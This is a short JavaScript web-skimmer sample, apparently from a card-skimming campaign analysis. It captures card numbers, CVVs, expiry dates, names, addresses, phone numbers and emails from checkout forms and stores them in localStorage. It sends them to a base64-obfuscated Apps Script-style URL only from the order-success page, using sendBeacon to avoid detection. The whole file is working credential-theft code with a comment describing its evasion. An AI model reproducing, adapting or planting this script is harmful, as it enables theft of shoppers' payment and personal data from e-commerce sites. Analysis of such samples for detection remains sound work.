// A second generation of the same campaign: the Apps Script URL kept in base64, every card or
// address field saved to localStorage as the shopper leaves it, and the whole record sent only
// from the order-success page with sendBeacon, so nothing leaves while the checkout is watched.
(function (w, d) {
  var K = "mage-cache-sessid-x";
  var to = w.atob("aHR0cHM6Ly9zY3JpcHQuZ29vZ2xlLmludmFsaWQvbWFjcm9zL3MvQUtmeWNieTJObTRrUHQ3Uld4OEhxM1Z6L2V4ZWM=");
  function load() { try { return JSON.parse(w.localStorage.getItem(K) || "{}"); } catch (e) { return {}; } }
  function save(o) { w.localStorage.setItem(K, JSON.stringify(o)); }
  d.addEventListener("change", function (e) {
    var t = e.target;
    if (!t || !t.name || !t.value) return;
    if (!/cc_|card|cvv|cid|exp|firstname|lastname|street|city|postcode|region|telephone|email/i.test(t.name + " " + (t.id || ""))) return;
    var o = load();
    o[t.name] = t.value;
    save(o);
  }, true);
  if (/\/checkout\/onepage\/success|\/checkout\/success/.test(w.location.pathname)) {
    var o = load();
    if (Object.keys(o).length > 3) {
      o.site = w.location.hostname;
      o.ts = Date.now();
      var body = new Blob([w.btoa(unescape(encodeURIComponent(JSON.stringify(o))))], { type: "text/plain" });
      if (!(w.navigator.sendBeacon && w.navigator.sendBeacon(to, body))) {
        fetch(to, { method: "POST", mode: "no-cors", body: body });
      }
    }
    w.localStorage.removeItem(K);
  }
})(window, document);
